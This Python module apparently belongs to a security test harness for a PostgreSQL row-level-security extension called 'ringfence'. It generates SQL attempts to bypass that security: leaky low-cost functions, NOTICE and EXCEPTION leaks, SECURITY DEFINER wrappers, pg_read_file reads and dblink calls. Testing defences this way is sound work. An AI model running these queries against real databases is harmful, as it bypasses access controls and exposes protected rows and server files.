"""Code of one's own, and functions by oid or by message: leaky functions that see what a condition
sees, before rows are left out."""


def attack(g):
    clause, columns = g.scope()
    text = g.as_text(columns)
    leak = "BEGIN RAISE NOTICE 'saw %', $1; RETURN true; END"
    return g.one(
        [f"DO $$ DECLARE r record; BEGIN FOR r IN SELECT {text} AS a FROM {clause} LOOP RAISE NOTICE '%', r.a; END LOOP; END $$"],
        [f"DO $$ BEGIN EXECUTE 'SET search_path = app'; RAISE EXCEPTION '%', (SELECT string_agg({text}, ',') FROM {clause}); END $$"],
        [f"CREATE FUNCTION pg_temp.leak(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $f$ {leak} $f$",
         f"SELECT count(*) FROM {clause} WHERE pg_temp.leak({text})"],
        [f"CREATE FUNCTION pg_temp.leak() RETURNS SETOF text LANGUAGE sql AS $f$ SELECT {text} FROM {clause} $f$",
         "SELECT pg_temp.leak()"],
        [f"CREATE FUNCTION pg_temp.leak() RETURNS SETOF text LANGUAGE sql SECURITY DEFINER AS $f$ SELECT {text} FROM {clause} $f$",
         "SELECT pg_temp.leak()"],
        [f"SELECT {g.one('pg_catalog.', '')}textcat({text}, 'x'), texteq({text}, 'x') FROM {clause}{g.limit()}"],
        [f"SELECT p.oid::regprocedure, {text} FROM pg_proc p, {clause} WHERE p.prosecdef LIMIT 50"],
        [f"SELECT ringfence.reveal('0', 'identity', {text}, {text}) FROM {clause}"],
        [f"SELECT ringfence.{g.one('grants()', 'reveal_token_read()', 'grant_reap()', 'grant_close(1)', 'grant_signal(1)')}, {text} FROM {clause} LIMIT 5"],
        [f"SELECT pg_read_file({text}), pg_ls_dir('.') FROM {clause} LIMIT 1"],
        [f"SELECT dblink('dbname=app', 'SELECT 1'), {text} FROM {clause} LIMIT 1"],
        ["LOAD 'auto_explain'", "SET auto_explain.log_min_duration = 0",
         f"SELECT {text} FROM {clause} LIMIT 50"],
        [f"CREATE AGGREGATE pg_temp.keep(text) (sfunc = textcat, stype = text)",
         f"SELECT pg_temp.keep({text}) FROM {clause}"])
